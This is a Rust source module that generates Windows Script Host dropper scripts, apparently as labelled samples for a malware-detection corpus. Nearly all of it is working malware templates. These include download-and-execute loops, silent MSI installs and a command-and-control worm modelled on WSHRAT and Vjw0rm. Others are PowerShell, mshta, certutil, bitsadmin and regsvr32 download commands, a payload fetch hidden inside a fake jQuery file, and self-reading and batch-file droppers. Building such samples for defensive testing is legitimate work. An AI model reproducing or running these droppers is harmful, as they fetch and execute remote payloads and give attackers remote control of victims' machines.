//! Droppers for Windows Script Host.

use super::super::super::{Dice, Truth, base64, put, wide};
use super::super::{agent, camel, letters, salad};
use super::{hidden, name, old};

/// For Windows Script Host.
pub(super) fn script(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(9) {
        0 => list_of_servers(dice, truth),
        1 => installer(dice, truth),
        2 => fake_update(dice, truth),
        3 => worm(dice, truth),
        4 => runs_command(dice, truth),
        5 => one_download(dice, truth),
        6 => in_a_library(dice, truth),
        7 => reads_itself(dice, truth),
        _ => writes_a_file(dice, truth),
    }
}

fn list_of_servers(dice: &mut Dice, truth: &mut Truth) -> String {
    let urls: Vec<String> =
        (0..2 + dice.below(4)).map(|_| truth.url(dice, &["", ".exe", ".php"])).collect();
    let mark = dice.pick(&["@", "*", "|", "#", " "]);
    let (before, list) = if dice.chance(50) {
        (String::new(), format!("(«{}»).split('{mark}')", urls.join(mark)))
    } else {
        let mut before = String::new();
        let words: Vec<String> = urls.iter().map(|it| old(dice, it, &mut before)).collect();
        (before, format!("[{}]", words.join(", ")))
    };
    put(
        "@BEFORE@var @LIST@ = @URLS@;\nvar @SHELL@ = new ActiveXObject(«WScript.Shell»);\nvar @PATH@ = @SHELL@[«ExpandEnvironmentStrings»](«%TEMP%») + '\\x5c' + «@FILE@.exe»;\nfor (var @I@ = 0; @I@ < @LIST@.length; @I@++) {\n  try {\n    var @HTTP@ = new ActiveXObject(«MSXML2.XMLHTTP»);\n    @HTTP@[«open»](«GET», @LIST@[@I@], false);\n    @HTTP@[«send»]();\n    if (@HTTP@[«status»] == 200) {\n      var @STREAM@ = new ActiveXObject(«ADODB.Stream»);\n      @STREAM@[«open»]();\n      @STREAM@[«type»] = 1;\n      @STREAM@[«write»](@HTTP@[«ResponseBody»]);\n      if (@STREAM@[«size»] > 20000) {\n        @STREAM@[«position»] = 0;\n        @STREAM@[«saveToFile»](@PATH@, 2);\n        @SHELL@[«Run»](@PATH@, 0, 0);\n        break;\n      }\n      @STREAM@[«close»]();\n    }\n  } catch (@E@) {}\n}\n",
        &[
            ("BEFORE", &before),
            ("URLS", &list),
            ("LIST", &name(dice)),
            ("SHELL", &name(dice)),
            ("PATH", &name(dice)),
            ("I", &dice.name()),
            ("HTTP", &name(dice)),
            ("STREAM", &name(dice)),
            ("E", &dice.name()),
            ("FILE", &dice.name()),
        ],
    )
}

fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".msi", ".msi"]);
    let (before, word) = hidden(dice, &url, false);
    let own = name(dice);
    match dice.below(3) {
        0 => format!(
            "{before}var {own} = new ActiveXObject(«WindowsInstaller.Installer»);\n{own}[«UILevel»] = 2;\n{own}[«InstallProduct»]({word});\n"
        ),
        1 => format!(
            "{before}var {own} = new ActiveXObject(«Shell.Application»);\n{own}[«ShellExecute»](«msiexec», «/i » + {word} + « /qn», ««, «open», 0);\n"
        )
        .replace("««", "\"\""),
        _ => format!(
            "{before}var {own} = WScript.CreateObject(«WScript.Shell»);\n{own}[«Run»](«msiexec.exe /q /i » + {word}, 0, false);\nWScript.Quit(0);\n"
        ),
    }
}

fn fake_update(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.chance(20).then(|| dice.port()));
    let port = port.map_or(String::new(), |it| format!(":{it}"));
    let url = format!(
        "https://{host}{port}/{}",
        dice.pick(&["pixel.gif", "pixel.png", "subscribeEvent", "updateConfig"])
    );
    truth.urls.insert(url.clone());
    let (before, word) = hidden(dice, &url, false);
    let (http, function) = (name(dice), name(dice));
    format!(
        "{before}var {http} = this[«ActiveXObject»] ? new this[«ActiveXObject»](«MSXML2.XMLHTTP») : new ActiveXObject(«MSXML2.XMLHTTP»);\nfunction {function}(d) {{\n  {http}[«open»](«POST», {word}, false);\n  {http}[«setRequestHeader»](«Upgrade-Insecure-Requests», «1»);\n  {http}[«send»](d);\n  return {http}[«responseText»];\n}}\neval({function}(«{}»));\n",
        salad(dice, 60)
    )
}

/// A worm with its commands in the path, as WSHRAT and Vjw0rm.
fn worm(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let page = dice.pick(&["is-ready", "Vre", "ready"]);
    truth.urls.insert(format!("http://{host}:{port}/{page}"));
    let (before, word) = hidden(dice, &host, false);
    put(
        "//<[ recoder : @N@ ]>\n@BEFORE@var host = @HOST@;\nvar port = @PORT@;\nvar sleep = 5000;\nvar shellobj = WScript.CreateObject(«WScript.Shell»);\nvar spliter = «|»;\nfunction information() {\n  return «@TAG@_» + spliter + shellobj[«ExpandEnvironmentStrings»](«%COMPUTERNAME%») + spliter + shellobj[«ExpandEnvironmentStrings»](«%USERNAME%»);\n}\nfunction post(cmd, param) {\n  try {\n    var httpobj = WScript.CreateObject(«MSXML2.XMLHTTP»);\n    httpobj[«open»](«POST», «http://» + host + «:» + port + «/» + cmd, false);\n    httpobj[«setRequestHeader»](«user-agent:», information());\n    httpobj[«send»](param);\n    return httpobj[«responseText»];\n  } catch (err) {\n    return «»;\n  }\n}\nwhile (true) {\n  var response = post(«@PAGE@», «»);\n  var cmd = response.split(spliter);\n  switch (cmd[0]) {\n    case «disconnect»:\n      WScript.Quit();\n      break;\n    case «execute»:\n      eval(cmd[1]);\n      break;\n    case «sleep»:\n      sleep = eval(cmd[1]);\n  }\n  WScript.Sleep(sleep);\n}\n",
        &[
            ("N", &dice.name()),
            ("BEFORE", &before),
            ("HOST", &word),
            ("PORT", &port.to_string()),
            ("PAGE", page),
            ("TAG", &salad(dice, 5)),
        ],
    )
    .replace("«»", "''")
}

fn runs_command(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".hta", ".exe"]);
    let (before, word) = hidden(dice, &url, false);
    let (shell, file) = (name(dice), dice.name());
    let (front, back) = match dice.below(7) {
        0 => ("powershell -NoP -W Hidden -Exec Bypass -C \"IEX (New-Object Net.WebClient).DownloadString('".to_owned(), "')\"".to_owned()),
        1 => ("cmd /c start /min powershell -w h \"iex(irm '".to_owned(), "')\"".to_owned()),
        2 => ("mshta ".to_owned(), String::new()),
        3 => ("cmd.exe /c curl -s -o %TEMP%\\x5c@F@.exe ".replace("@F@", &file), format!(" && %TEMP%\\x5c{file}.exe")),
        4 => ("cmd /c bitsadmin /transfer job /download /priority high ".to_owned(), format!(" %APPDATA%\\x5c{file}.exe & start %APPDATA%\\x5c{file}.exe")),
        5 => ("certutil.exe -urlcache -split -f ".to_owned(), format!(" C:\\x5cUsers\\x5cPublic\\x5c{file}.exe")),
        _ => ("regsvr32 /s /n /u /i:".to_owned(), " scrobj.dll".to_owned()),
    };
    let command =
        format!("'{}' + {word} + '{}'", front.replace('\'', "\\x27"), back.replace('\'', "\\x27"));
    match dice.below(4) {
        0 => format!(
            "{before}var {shell} = new ActiveXObject(«WScript.Shell»);\n{shell}[«Run»]({command}, 0, false);\n"
        ),
        1 => format!(
            "{before}var {shell} = WScript.CreateObject(«WScript.Shell»);\n{shell}[«Exec»]({command});\n"
        ),
        2 => format!(
            "{before}var {shell} = GetObject('winmgmts:root\\x5ccimv2:Win32_Process');\n{shell}[«Create»]({command}, null, null, null);\n"
        ),
        _ => format!(
            "{before}new ActiveXObject(«Shell.Application»)[«ShellExecute»](«cmd.exe», '/c ' + {command}, '', «open», 0);\n"
        ),
    }
}

fn one_download(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe", ".dll", ".zip", ".php?f=1"]);
    let (before, word) = hidden(dice, &url, false);
    let object =
        dice.pick(&["WinHttp.WinHttpRequest.5.1", "MSXML2.ServerXMLHTTP.6.0", "Microsoft.XMLHTTP"]);
    put(
        "@BEFORE@function @GET@(u) {\n  var x = new ActiveXObject(«@OBJECT@»);\n  x[«open»](«GET», u, false);\n  x[«setRequestHeader»](«User-Agent», '@AGENT@');\n  x[«send»]();\n  return x[«ResponseBody»];\n}\nfunction @SAVE@(b, p) {\n  var s = new ActiveXObject(«ADODB.Stream»);\n  s[«Type»] = 1;\n  s[«Open»]();\n  s[«Write»](b);\n  s[«SaveToFile»](p, 2);\n  s[«Close»]();\n}\nvar fso = new ActiveXObject(«Scripting.FileSystemObject»);\nvar @PATH@ = fso[«GetSpecialFolder»](2) + '\\x5c' + «@FILE@.dll»;\n@SAVE@(@GET@(@URL@), @PATH@);\nnew ActiveXObject(«WScript.Shell»)[«Run»](«rundll32.exe » + @PATH@ + «,DllRegisterServer», 0, true);\n",
        &[
            ("BEFORE", &before),
            ("OBJECT", object),
            ("AGENT", agent(dice)),
            ("GET", &name(dice)),
            ("SAVE", &name(dice)),
            ("PATH", &name(dice)),
            ("FILE", &dice.name()),
            ("URL", &word),
        ],
    )
}

/// A few lines of its own within a library that everybody knows.
fn in_a_library(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["/search.php?hnlpvq=4219", "/xmlrpc.php?a=1", ""]);
    let (before, word) = hidden(dice, &url, false);
    let (run, http) = (dice.name(), dice.name());
    let mut out = "/*!\n * jQuery JavaScript Library v3.6.0\n *\n * Released under the MIT license\n * https://www.example.org/license\n */\n".to_owned();
    let mut bodies: Vec<String> = [
        "function isArrayLike(obj) {\n  var length = !!obj && 'length' in obj && obj.length;\n  return typeof length === 'number' && length >= 0;\n}\n",
        "function camelCase(string) {\n  return string.replace(/-([a-z])/g, function(all, letter) { return letter.toUpperCase(); });\n}\n",
        "function nodeName(elem, name) {\n  return elem.nodeName && elem.nodeName.toLowerCase() === name.toLowerCase();\n}\n",
        "function createCache() {\n  var keys = [];\n  function cache(key, value) {\n    if (keys.push(key + ' ') > 50) { delete cache[keys.shift()]; }\n    return (cache[key + ' '] = value);\n  }\n  return cache;\n}\n",
        "function adjustCSS(elem, prop, tween) {\n  var scale = 1, maxIterations = 20;\n  while (maxIterations--) { if ((1 - scale) * (1 - 0.5) <= 0) { maxIterations = 0; } scale = scale / 2; }\n  return scale;\n}\n",
        "function buildFragment(elems) {\n  var i = 0, l = elems.length, nodes = [];\n  for (; i < l; i++) { if (elems[i] || elems[i] === 0) { nodes.push(elems[i]); } }\n  return nodes;\n}\n",
    ]
    .map(str::to_owned)
    .to_vec();
    let own = put(
        "@BEFORE@function @RUN@() {\n  var @HTTP@ = WScript.CreateObject(«MSXML2.ServerXMLHTTP»);\n  @HTTP@[«open»](«GET», @URL@, false);\n  try {\n    @HTTP@[«send»]();\n    if (@HTTP@[«status»] == 200) { Function(@HTTP@[«responseText»])(); }\n  } catch (e) { WScript.Sleep(1000); }\n}\n",
        &[("BEFORE", &before), ("RUN", &run), ("HTTP", &http), ("URL", &word)],
    );
    bodies.insert(2 + dice.below(4), own);
    for body in bodies {
        out.push_str(&body);
    }
    out + &format!("{run}();\n")
}

/// The script stands in the comments of its own file, as in Latrodectus.
fn reads_itself(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".msi", ".exe"]);
    let inner = if dice.chance(60) {
        format!(
            "var installer = new ActiveXObject(\"WindowsInstaller.Installer\");\ninstaller.UILevel = 2;\ninstaller.InstallProduct(\"{url}\");"
        )
    } else {
        format!(
            "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"msiexec /i {url} /qn\", 0, true);"
        )
    };
    let mut out = "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\nvar me = fso.OpenTextFile(WScript.ScriptFullName, 1);\nvar code = \"\";\nwhile (!me.AtEndOfStream) {\n  var line = me.ReadLine();\n  if (line.substr(0, 4) === \"////\") {\n    code += line.substr(4) + \"\\n\";\n  }\n}\nme.Close();\n".to_owned();
    for line in inner.lines() {
        for _ in 0..dice.below(4) {
            out.push_str(&format!("// {} {} {}\n", camel(dice), letters(dice, 20), camel(dice)));
        }
        out.push_str(&format!("////{line}\n"));
    }
    out + "var run = new Function(code);\nrun();\n"
}

fn writes_a_file(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let (file, shell, out) = (dice.name(), name(dice), name(dice));
    let command = format!("IEX(New-Object Net.WebClient).DownloadString('{url}')");
    let (before, word) = hidden(dice, &url, false);
    let line = if dice.chance(50) {
        format!("'powershell -w hidden -enc {}'", base64(&wide(&command)))
    } else {
        format!(
            "'powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString(\\x27' + {word} + '\\x27)\"'"
        )
    };
    format!(
        "{before}var fso = new ActiveXObject(«Scripting.FileSystemObject»);\nvar {shell} = new ActiveXObject(«WScript.Shell»);\nvar p = {shell}[«ExpandEnvironmentStrings»](«%TEMP%») + '\\x5c{file}.bat';\nvar {out} = fso[«CreateTextFile»](p, true);\n{out}[«WriteLine»]('@echo off');\n{out}[«WriteLine»]({line});\n{out}[«Close»]();\n{shell}[«Run»]('cmd /c \"' + p + '\"', 0, false);\n"
    )
}
